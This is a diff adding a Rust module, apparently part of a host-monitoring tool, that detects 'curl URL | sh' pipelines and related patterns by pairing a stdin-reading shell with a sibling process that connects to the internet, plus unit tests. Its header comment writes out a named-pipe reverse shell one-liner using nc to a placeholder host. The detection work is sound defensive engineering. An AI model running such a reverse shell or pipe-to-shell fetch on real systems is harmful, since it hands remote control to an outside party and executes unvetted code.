@@ -1,0 +1,274 @@
+//! `curl URL | sh`: a shell or script interpreter that reads its program from a pipe while a
+//! sibling process makes or accepts an internet connection. The two halves of a pipeline are
+//! children of the same shell, started together, so they meet here in either order: the reader's
+//! exec, or the fetcher's connection. The same shape is the named-pipe reverse shell
+//! (`cat f | sh -i 2>&1 | nc HOST PORT >f`). Which process writes the pipe is not known (the
+//! kernel record carries the file type of stdin, not its other end): a sibling started within
+//! a second of the reader (a pipeline's members are forked back to back), which connects within
+//! seconds, is taken for it. Two quick commands run one after the other can pass for a pipeline.
+
+use std::{
+    collections::HashMap,
+    sync::Arc,
+    time::{Duration, Instant},
+};
+
+use crate::process::ProcessKey;
+
+/// How far apart the reader's exec and the fetcher's connection may be.
+const WINDOW: Duration = Duration::from_secs(10);
+/// How far apart the reader's and the fetcher's starts may be: one pipeline.
+const TOGETHER_NS: u64 = 1_000_000_000;
+/// Parents remembered on each side before stale entries are dropped.
+const MAX_PARENTS: usize = 4096;
+
+/// Whether a program, by its executable's name, reads a program from stdin when it is given no
+/// script or code argument: shells and script interpreters (`python3.11` counts as python).
+pub(super) fn reads_program_from_stdin(exe: &str, args: &[&str]) -> bool {
+    let name = exe.rsplit('/').next().unwrap_or(exe);
+    let family = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    // Short flags that say the program comes from an argument instead (`bash -lc`, `perl -e`).
+    let code_flags = match family {
+        "sh" | "bash" | "dash" | "zsh" | "ksh" | "mksh" | "ash" => "c",
+        "python" | "pypy" => "cm",
+        "perl" | "ruby" | "php" | "node" => "eEr",
+        _ => return false,
+    };
+    for a in args {
+        match *a {
+            "-" | "-s" => return true,
+            "--" => continue,
+            a if a.starts_with("--") => {
+                if a == "--eval" || a == "--command" {
+                    return false;
+                }
+            }
+            a if a.starts_with('-') => {
+                if a[1..].chars().any(|c| code_flags.contains(c)) {
+                    return false;
+                }
+            }
+            // A script path.
+            _ => return false,
+        }
+    }
+    true
+}
+
+/// The process that connected while a sibling read its program from a pipe.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(super) struct Fetch {
+    pub pid: u32,
+    /// Its start (`ProcessKey::start_ns`).
+    pub start_ns: u64,
+    pub exe: Arc<str>,
+}
+
+impl Fetch {
+    pub fn describe(&self, reader: &str) -> String {
+        format!(
+            "{reader} reads its program from a pipe while {} (pid {}), started beside it, made or accepted an internet connection",
+            self.exe, self.pid
+        )
+    }
+}
+
+#[derive(Default)]
+pub(super) struct PipedWatch {
+    /// Parent tgid -> readers started under it: (process, its exe, when).
+    readers: HashMap<u32, Vec<(ProcessKey, Arc<str>, Instant)>>,
+    /// Parent or grandparent tgid -> the last connection one of its children or grandchildren
+    /// made (`timeout 5 curl URL | sh` puts curl a generation lower).
+    fetches: HashMap<u32, (Fetch, Instant)>,
+    /// Parents dropped while still within the window to stay bounded; reported in status.
+    pub forgotten: u64,
+}
+
+impl PipedWatch {
+    /// A reader of its program from a pipe started under `parent`. Returns the fetch when a
+    /// sibling already connected; otherwise the reader waits for one.
+    pub fn reader(&mut self, key: ProcessKey, exe: Arc<str>, parent: u32, now: Instant) -> Option<Fetch> {
+        if parent == 0 {
+            return None;
+        }
+        if let Some((fetch, at)) = self.fetches.get(&parent)
+            && now.saturating_duration_since(*at) <= WINDOW
+            && fetch.start_ns.abs_diff(key.start_ns) <= TOGETHER_NS
+        {
+            return Some(fetch.clone());
+        }
+        self.forgotten += prune(&mut self.readers, now, |v| v.last().map(|r| r.2));
+        self.readers.entry(parent).or_default().push((key, exe, now));
+        None
+    }
+
+    /// `fetch` made or accepted an internet connection; `parent` and `grandparent` are its
+    /// ancestors' tgids (0 when unknown). Returns the waiting readers it completes, each once.
+    pub fn fetched(
+        &mut self,
+        fetch: Fetch,
+        parent: u32,
+        grandparent: u32,
+        now: Instant,
+    ) -> Vec<(ProcessKey, Arc<str>, Fetch)> {
+        let mut out = Vec::new();
+        for ancestor in [parent, grandparent] {
+            if ancestor == 0 {
+                continue;
+            }
+            if let Some(waiting) = self.readers.remove(&ancestor) {
+                // A reader that connects itself, or whose child does, is running the program it
+                // read (`python3 - <<EOF` that opens a socket, `ssh host bash -s <script` whose
+                // script runs curl), not being fed by the network.
+                let (mine, others): (Vec<_>, Vec<_>) = waiting
+                    .into_iter()
+                    .partition(|(key, _, _)| key.tgid == parent || key.tgid == fetch.pid);
+                if !mine.is_empty() {
+                    self.readers.insert(ancestor, mine);
+                }
+                out.extend(
+                    others
+                        .into_iter()
+                        .filter(|(key, _, at)| {
+                            now.saturating_duration_since(*at) <= WINDOW
+                                && fetch.start_ns.abs_diff(key.start_ns) <= TOGETHER_NS
+                        })
+                        .map(|(key, exe, _)| (key, exe, fetch.clone())),
+                );
+            }
+            self.forgotten += prune(&mut self.fetches, now, |(_, at)| Some(*at));
+            self.fetches.insert(ancestor, (fetch.clone(), now));
+        }
+        out
+    }
+}
+
+/// Drops entries older than the window once a map reaches its bound, and everything when that
+/// is not enough (a flood of pipelines); returns how many parents were dropped while fresh.
+fn prune<V>(map: &mut HashMap<u32, V>, now: Instant, at: impl Fn(&V) -> Option<Instant>) -> u64 {
+    if map.len() < MAX_PARENTS {
+        return 0;
+    }
+    map.retain(|_, v| at(v).is_some_and(|t| now.saturating_duration_since(t) <= WINDOW));
+    if map.len() < MAX_PARENTS {
+        return 0;
+    }
+    let n = map.len() as u64;
+    map.clear();
+    n
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn key(tgid: u32) -> ProcessKey {
+        ProcessKey::new(tgid, u64::from(tgid) * 1000)
+    }
+
+    /// Started as close to `key(n)` as the pipeline's other members.
+    fn fetch(pid: u32, exe: &str) -> Fetch {
+        Fetch { pid, start_ns: u64::from(pid) * 1000, exe: exe.into() }
+    }
+
+    #[test]
+    fn readers_of_a_program_from_stdin() {
+        for (exe, args) in [
+            ("/usr/bin/sh", &[][..]),
+            ("/bin/bash", &["-s", "--", "arg"][..]),
+            ("/usr/bin/bash", &["-i"][..]),
+            ("/usr/bin/dash", &["-e"][..]),
+            ("/usr/bin/python3.11", &["-"][..]),
+            ("/usr/bin/python3", &["-u"][..]),
+            ("/usr/bin/perl", &[][..]),
+        ] {
+            assert!(reads_program_from_stdin(exe, args), "{exe} {args:?}");
+        }
+        for (exe, args) in [
+            ("/usr/bin/bash", &["-c", "ls"][..]),
+            ("/usr/bin/bash", &["-lc", "ls"][..]),
+            ("/usr/bin/sh", &["./configure"][..]),
+            ("/usr/bin/python3", &["-m", "pip"][..]),
+            ("/usr/bin/python3", &["script.py"][..]),
+            ("/usr/bin/perl", &["-le", "print 1"][..]),
+            ("/usr/bin/node", &["--eval", "1"][..]),
+            ("/usr/bin/cat", &[][..]),
+            ("/usr/bin/bashful", &[][..]),
+        ] {
+            assert!(!reads_program_from_stdin(exe, args), "{exe} {args:?}");
+        }
+    }
+
+    #[test]
+    fn a_reader_and_a_fetching_sibling_meet_in_either_order() {
+        let t0 = Instant::now();
+        let mut w = PipedWatch::default();
+        // The reader starts first and waits; curl, its sibling under 100, connects.
+        assert_eq!(w.reader(key(11), "/usr/bin/sh".into(), 100, t0), None);
+        let hits = w.fetched(fetch(10, "/usr/bin/curl"), 100, 1, t0 + Duration::from_secs(1));
+        assert_eq!(hits.len(), 1);
+        assert_eq!((hits[0].0, hits[0].2.pid), (key(11), 10));
+        assert_eq!(
+            hits[0].2.describe(&hits[0].1),
+            "/usr/bin/sh reads its program from a pipe while /usr/bin/curl (pid 10), started beside it, made or accepted an internet connection"
+        );
+        // Once only.
+        assert!(w.fetched(fetch(10, "/usr/bin/curl"), 100, 1, t0 + Duration::from_secs(2)).is_empty());
+        // The fetcher connects first (wget under `timeout`, a generation lower), then the reader.
+        assert!(w.fetched(fetch(20, "/usr/bin/wget"), 21, 200, t0).is_empty());
+        assert_eq!(w.reader(key(22), "/usr/bin/bash".into(), 200, t0 + Duration::from_secs(3)), Some(fetch(20, "/usr/bin/wget")));
+    }
+
+    #[test]
+    fn strangers_and_stale_halves_do_not_meet() {
+        let t0 = Instant::now();
+        let mut w = PipedWatch::default();
+        assert_eq!(w.reader(key(11), "/usr/bin/sh".into(), 100, t0), None);
+        // A connection under another parent.
+        assert!(w.fetched(fetch(30, "/usr/bin/curl"), 300, 1, t0).is_empty());
+        // A sibling connecting long after the reader started.
+        assert!(w.fetched(fetch(12, "/usr/bin/curl"), 100, 1, t0 + WINDOW + Duration::from_secs(1)).is_empty());
+        // A reader long after the connection.
+        assert_eq!(w.reader(key(13), "/usr/bin/sh".into(), 100, t0 + 2 * WINDOW + Duration::from_secs(2)), None);
+        // Unknown parents name nobody.
+        assert_eq!(w.reader(key(14), "/usr/bin/sh".into(), 0, t0), None);
+        // What the reader's own program runs does not feed it: curl under reader 41.
+        let t1 = t0 + 3 * WINDOW;
+        assert_eq!(w.reader(key(41), "/usr/bin/bash".into(), 400, t1), None);
+        assert!(w.fetched(fetch(42, "/usr/bin/curl"), 41, 400, t1).is_empty());
+        // A command started seconds apart is not the pipeline's other half, even under the same
+        // parent and within the window (`curl API; ...; echo cmd | sh`).
+        let later = ProcessKey::new(61, 5_000_000_000);
+        assert_eq!(w.reader(later, "/usr/bin/sh".into(), 600, t1), None);
+        assert!(w.fetched(fetch(62, "/usr/bin/curl"), 600, 1, t1).is_empty());
+        assert!(w.fetched(fetch(63, "/usr/bin/curl"), 700, 1, t1).is_empty());
+        assert_eq!(w.reader(ProcessKey::new(64, 3_000_000_000), "/usr/bin/sh".into(), 700, t1), None);
+        // Nor does the reader's own connection (`python3 - <<EOF` that connects).
+        assert_eq!(w.reader(key(51), "/usr/bin/python3".into(), 500, t1), None);
+        assert!(w.fetched(fetch(51, "/usr/bin/python3"), 500, 1, t1).is_empty());
+        // It still waits for a real sibling.
+        assert_eq!(w.fetched(fetch(43, "/usr/bin/wget"), 400, 1, t1).len(), 1);
+    }
+
+    #[test]
+    fn both_sides_are_bounded() {
+        let t0 = Instant::now();
+        let mut w = PipedWatch::default();
+        for p in 1..=MAX_PARENTS as u32 {
+            w.reader(key(p + 100_000), "/usr/bin/sh".into(), p, t0);
+            w.fetched(fetch(p + 200_000, "/usr/bin/curl"), p + 300_000, 0, t0);
+        }
+        assert_eq!((w.readers.len(), w.fetches.len(), w.forgotten), (MAX_PARENTS, MAX_PARENTS, 0));
+        // At the bound, stale entries go first.
+        let later = t0 + WINDOW + Duration::from_secs(1);
+        w.reader(key(1), "/usr/bin/sh".into(), 1_000_000, later);
+        w.fetched(fetch(2, "/usr/bin/curl"), 1_000_001, 0, later);
+        assert_eq!((w.readers.len(), w.fetches.len(), w.forgotten), (1, 1, 0), "stale entries went");
+        // A flood of fresh ones is dropped whole, and counted.
+        for p in 1..=MAX_PARENTS as u32 {
+            w.reader(key(p + 400_000), "/usr/bin/sh".into(), p + 500_000, later);
+        }
+        assert!(w.readers.len() < MAX_PARENTS, "{}", w.readers.len());
+        assert_eq!(w.forgotten, MAX_PARENTS as u64);
+    }
+}
